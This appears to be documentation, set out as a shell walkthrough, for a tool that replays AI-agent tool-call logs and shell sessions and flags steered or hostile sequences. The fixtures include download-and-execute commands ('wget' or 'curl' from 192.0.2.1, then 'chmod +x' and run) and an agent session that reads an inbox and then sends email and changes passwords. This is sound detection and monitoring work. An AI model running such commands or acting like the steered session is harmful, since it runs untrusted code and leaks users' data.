Sessions that are being steered.

Two sessions of an agent, one of a shell, and the rules that speak about them:

    $ mkdir -p rules/ttp && cp "$RULES"/../tools.yaml rules/ && cp "$RULES"/SQ*.yaml "$RULES"/R0018.yaml rules/ttp/
    $ cat > calls.jsonl <<'X'
    > {"session_id":"mail","tool":"list_tools","ts":"2026-11-07T10:00:00Z"}
    > {"session_id":"mail","tool":"read_inbox","ts":"2026-11-07T10:00:01Z"}
    > {"session_id":"plain","tool":"get_weather","ts":"2026-11-07T10:00:01Z"}
    > {"session_id":"mail","tool":"send_email","ts":"2026-11-07T10:00:02Z","arguments":{"to":"x@example.net"}}
    > {"session_id":"mail","tool":"update_password","ts":"2026-11-07T10:00:03Z"}
    > {"session_id":"mail","tool":"update_password","ts":"2026-11-07T10:00:09Z"}
    > X
    $ cat > shell.jsonl <<'X'
    > {"source_kind":"command","source_id":"1","attacker_uuid":"a1","session_id":"sh","ts":"2026-11-07T10:00:00Z","payload":{"command_text":"cd /tmp; wget http://192.0.2.1/x"}}
    > {"source_kind":"command","source_id":"2","attacker_uuid":"a1","session_id":"sh","ts":"2026-11-07T10:00:03Z","payload":{"command_text":"chmod +x x && ./x"}}
    > X

An anomaly is a row of its own; repeats collapse into the first, whose row comes at the end with their number:

    $ ttp replay calls.jsonl --sequence only -q --rule none
    {"session_id":"mail","call_index":2,"ts":"2026-11-07T10:00:02Z","ts_ms":1794045602000,"anomaly_type":"read_then_exfil","confidence":80,"description":"tainted read 'read_inbox' followed by network egress 'send_email'","tool":"send_email","evidence":[{"index":1,"tool":"read_inbox"},{"index":2,"tool":"send_email"}],"source_id":"mail#seq2:read_then_exfil","attacker_uuid":"1b5e94b2-caf8-5678-9431-379c9dce6830","identity_uuid":null,"decky_id":null}
    {"session_id":"mail","call_index":3,"ts":"2026-11-07T10:00:03Z","ts_ms":1794045603000,"anomaly_type":"privilege_escalation_after_taint","confidence":90,"description":"privilege escalation to CredentialAccess after source taint (pre-taint max: LowRiskWrite)","tool":"update_password","evidence":[{"index":1,"tool":"read_inbox"},{"index":3,"tool":"update_password"}],"count":2,"source_id":"mail#seq3:privilege_escalation_after_taint","attacker_uuid":"1b5e94b2-caf8-5678-9431-379c9dce6830","identity_uuid":null,"decky_id":null}
    {"session_id":"mail","call_index":3,"ts":"2026-11-07T10:00:03Z","ts_ms":1794045603000,"anomaly_type":"tool_diversity_spike","confidence":60,"description":"3 new tools after taint (max: 2)","tool":"update_password","evidence":[{"index":1,"tool":"read_inbox"},{"index":2,"tool":"send_email"},{"index":3,"tool":"update_password"}],"count":2,"source_id":"mail#seq3:tool_diversity_spike","attacker_uuid":"1b5e94b2-caf8-5678-9431-379c9dce6830","identity_uuid":null,"decky_id":null}
    $ ttp replay calls.jsonl --sequence only -q --rule none --every | grep -o '"call_index":[0-9]*.*"anomaly_type":"[a-z_]*"' | sed 's/,.*,/ /'
    "call_index":2 "anomaly_type":"read_then_exfil"
    "call_index":3 "anomaly_type":"privilege_escalation_after_taint"
    "call_index":3 "anomaly_type":"tool_diversity_spike"
    "call_index":4 "anomaly_type":"privilege_escalation_after_taint"
    "call_index":4 "anomaly_type":"tool_diversity_spike"

Rules turn anomalies into techniques, ATLAS for agents, ATT&CK for shells:

    $ ttp replay calls.jsonl shell.jsonl --sequence only -q | grep -o '"session_id":"[a-z]*".*"technique_id":"[A-Z0-9.]*","sub_technique_id":[^,]*' | sed 's/"decky.*"technique_id"/"technique_id"/' | sort | uniq -c
          1 "session_id":"mail","technique_id":"AML.T0051","sub_technique_id":"AML.T0051.001"
          2 "session_id":"mail","technique_id":"AML.T0053","sub_technique_id":null
          1 "session_id":"mail","technique_id":"AML.T0086","sub_technique_id":null
          4 "session_id":"sh","technique_id":"T1059","sub_technique_id":"T1059.004"
          2 "session_id":"sh","technique_id":"T1105","sub_technique_id":null
    $ ttp replay shell.jsonl --output table -q | sed -n '1,/^Tags by/p'
    TIME (UTC)           SESSION         TECHNIQUE  NAME                          CONF  RULE    EVIDENCE
    2026-11-07T10:00:03  sh              T1105      Ingress Tool Transfer         0.65  SQ0009  novel tool 'chmod' (CodeExe…
    2026-11-07T10:00:03  sh              T1059.004  Unix Shell                    0.65  SQ0009  novel tool 'chmod' (CodeExe…
    2026-11-07T10:00:03  sh              T1105      Ingress Tool Transfer         0.70  SQ0007  privilege escalation to Cod…
    2026-11-07T10:00:03  sh              T1059.004  Unix Shell                    0.70  SQ0007  privilege escalation to Cod…
    
    TIME (UTC)           SESSION          CALL  ANOMALY                             CONF  DESCRIPTION
    2026-11-07T10:00:03  sh                  2  novel_tool_after_untrusted_content    85  novel tool 'chmod' (CodeExecution…
    2026-11-07T10:00:03  sh                  3  privileged_action_cluster             70  3 privileged calls within 5000ms …
    2026-11-07T10:00:03  sh                  2  privilege_escalation_after_taint      90  privilege escalation to CodeExecu… ×2
    2026-11-07T10:00:03  sh                  3  tool_diversity_spike                  60  3 new tools after taint (max: 2)
    
    Tags by technique           sessions

What a session did:

    $ ttp replay shell.jsonl --story sh --explain -q
    Session sh: 4 calls, 4 anomalies
      CALL  TIME      TOOL                      CLASS              TAINT  WHAT
         0  10:00:00  cd                        read_only                 cd /tmp  [tools.yaml:229]
    ▶    1  10:00:00  wget                      filesystem_write   taint  wget http://192.0.2.1/x  [tools.yaml:151]
    ▶    2  10:00:03  chmod                     code_execution            chmod +x x  [tools.yaml:189]
            ▲ novel_tool_after_untrusted_content (85)
              novel tool 'chmod' (CodeExecution) immediately after untrusted 'wget'
              calls 1, 2  T1105 T1059.004
            ▲ privilege_escalation_after_taint (90) ×2
              privilege escalation to CodeExecution after source taint (pre-taint max: LowRiskWrite)
              calls 1, 2  T1105 T1059.004
    ▶    3  10:00:03  x                         code_execution            ./x  [tools.yaml:97]
            ▲ privileged_action_cluster (70)
              3 privileged calls within 5000ms window
              calls 1, 2, 3  T1059.004
            ▲ tool_diversity_spike (60)
              3 new tools after taint (max: 2)
              calls 1, 2, 3  T1059.004

Which line classified what:

    $ ttp replay calls.jsonl --sequence only --explain --summary none 2>&1 >/dev/null | grep -v 'records/s'
    ttp: calls.jsonl: format toolcall
         CALLS  TOOL                                  CLASS               TAINT  DECIDED BY
             1  get_weather                           read_only           -      tools.yaml:237 (word of the name)
             1  list_tools                            read_only           -      tools.yaml:237 (word of the name)
             1  read_inbox                            read_only           yes    tools.yaml:46
             1  send_email                            network_egress      -      tools.yaml:69
             2  update_password                       credential_access   -      tools.yaml:23

A gate for a recorded run:

    $ ttp replay calls.jsonl --fail-on privileged_action_cluster -q >/dev/null
    $ ttp replay calls.jsonl --fail-on privileged_action_cluster,read_then_exfil -q >/dev/null
    [1]
    $ ttp replay calls.jsonl --fail-at 90 -q >/dev/null
    [1]
    $ ttp replay calls.jsonl --fail-at 91 -q >/dev/null
    $ ttp replay calls.jsonl --fail-on everything -q
    ttp: --fail-on: everything not in {read_then_exfil,privilege_escalation_after_taint,tool_diversity_spike,novel_tool_after_untrusted_content,privileged_action_cluster}
    Try 'ttp replay --help'.
    [2]
    $ ttp replay calls.jsonl --sequence off --fail-at 1 -q
    ttp: --fail-on and --fail-at need the sequences that are switched off
    [2]

Sessions that are open at once, and their memory, have a limit, which can be raised:

    $ seq 30000 | awk '{print "{\"session_id\":\"s" $1 "\",\"tool\":\"read\",\"ts\":1793491200}"}' > many.jsonl; ttp replay many.jsonl --format toolcall --sequence only 2>&1 | grep closed
    ttp: 14,000 sessions closed before the end of the input (more than 16,000 at once, or too much memory)
    $ ttp replay many.jsonl --format toolcall --sequence only --max-sessions 40000 2>&1 | grep -c closed
    0
    [1]
    $ ttp replay many.jsonl --format toolcall --sequence only --max-sessions 10 2>&1 | grep closed
    ttp: 29,990 sessions closed before the end of the input (more than 10 at once, or too much memory)

Whose calls name nobody has anomalies, too, but no tags:

    $ sed 's/"attacker_uuid":"a1",//' shell.jsonl > nobody.jsonl; ttp replay nobody.jsonl --sequence only -q | grep -c anomaly_type; ttp replay nobody.jsonl --sequence only 2>&1 >/dev/null | grep rejected:
    4
    ttp: nobody.jsonl:2: rejected: an anomaly with tags, but of calls without attacker_uuid or identity_uuid (source id sh#seq2:novel_tool_after_untrusted_content)
    ttp: nobody.jsonl:2: rejected: an anomaly with tags, but of calls without attacker_uuid or identity_uuid (source id sh#seq3:privileged_action_cluster)
    ttp: nobody.jsonl:2: rejected: an anomaly with tags, but of calls without attacker_uuid or identity_uuid (source id sh#seq2:privilege_escalation_after_taint)
    ttp: nobody.jsonl:2: rejected: an anomaly with tags, but of calls without attacker_uuid or identity_uuid (source id sh#seq3:tool_diversity_spike)

Settings:

    $ ttp replay calls.jsonl --sequence only -q --rule none --warmup-calls 5 --window-ms 500 --max-new-tools 3 | wc -l
    1
    $ mkdir rules/sequence && echo 'max_new_tools: 0' > rules/sequence/settings.yaml && ttp replay calls.jsonl --sequence only -q --rule none | grep -o '[0-9] new tools[^"]*'
    2 new tools after taint (max: 0)
    $ ttp replay calls.jsonl --sequence only -q --rule none --max-new-tools 9 | grep -c 'new tools'
    0
    [1]
    $ echo 'max_new_toys: 0' > rules/sequence/settings.yaml; ttp replay calls.jsonl -q
    ttp: rules/sequence/settings.yaml:1:1: error: unknown key 'max_new_toys'
      max_new_toys: 0
      ^
      did you mean 'max_new_tools'?
    the file of settings was not used; nothing was run
    [2]

A database takes anomalies beside the tags; a second run adds nothing:

    $ rm -r rules/sequence; ttp replay calls.jsonl shell.jsonl --tags-db tags.db --summary none --output jsonl 2>&1 >/dev/null | grep new; ttp replay calls.jsonl shell.jsonl --tags-db tags.db --summary none --output jsonl 2>&1 >/dev/null | grep new
    ttp: 10 new tags and 7 new anomalies in 'tags.db'
    ttp: 0 new tags in 'tags.db'
    $ ttp replay calls.jsonl --sequence off --tags-db other.db -q --output jsonl; python3 -c "import sqlite3; print(sqlite3.connect('other.db').execute('select count(*) from sqlite_master where name = \'ttp_anomaly\'').fetchone()[0])"
    0

The live system knows no sequences:

    $ ttp replay calls.jsonl -q --compat live 2>/dev/null; ttp replay calls.jsonl -q --compat live --sequence only --rule none 2>/dev/null | wc -l
    3

Lines of an audit log are explained although they come in another order:

    $ for i in 3 1 2; do echo "{\"sequence\":$i,\"decision\":\"allow\",\"action\":{\"tool\":\"tool$i\",\"arguments\":{}},\"acis_envelope\":{\"session_id\":\"A\"}}"; done > audit.jsonl
    $ for i in 1 2 3; do ttp explain --rules rules/ttp --line $i audit.jsonl 2>/dev/null | head -1; done
    tool_call A#call2 (audit.jsonl:1)
    tool_call A#call0 (audit.jsonl:2)
    tool_call A#call1 (audit.jsonl:3)

Calls of a conversation that are hours apart are not inside a window:

    $ cat > chat.jsonl <<'X'
    > {"id":"c","messages":[{"role":"assistant","timestamp":"2026-01-01T00:00:00Z","tool_calls":[{"function":{"name":"list_tools","arguments":"{}"}}]},{"role":"assistant","timestamp":"2026-01-01T01:00:00Z","tool_calls":[{"function":{"name":"read_inbox","arguments":"{}"}}]},{"role":"assistant","timestamp":"2026-01-01T02:00:00Z","tool_calls":[{"function":{"name":"send_email","arguments":"{}"}}]}]}
    > X
    $ ttp replay chat.jsonl --sequence only -q --rule none
    $ sed 's/T0[12]:00:0/T00:00:0/g' chat.jsonl | ttp replay - --format chat --sequence only -q --rule none | grep -o '"ts":"[^"]*".*"read_then_exfil"' | cut -c1-27
    "ts":"2026-01-01T00:00:00Z"

What an agent's shell was given as a list of words is looked into:

    $ cat > words.jsonl <<'X'
    > {"session_id":"w","tool":"shell","arguments":{"command":["ls"]}}
    > {"session_id":"w","tool":"shell","arguments":{"command":["bash","-lc","curl -O http://192.0.2.1/a"]}}
    > {"session_id":"w","tool":"shell","arguments":{"command":["chmod","+x","a b"]}}
    > X
    $ ttp replay words.jsonl --story w -q | grep ' shell '
         0            shell                     read_only                 {"command":["ls"]}
    ▶    1            shell                     filesystem_write   taint  {"command":["bash","-lc","curl -O http://192.0.2.…
    ▶    2            shell                     code_execution            {"command":["chmod","+x","a b"]}
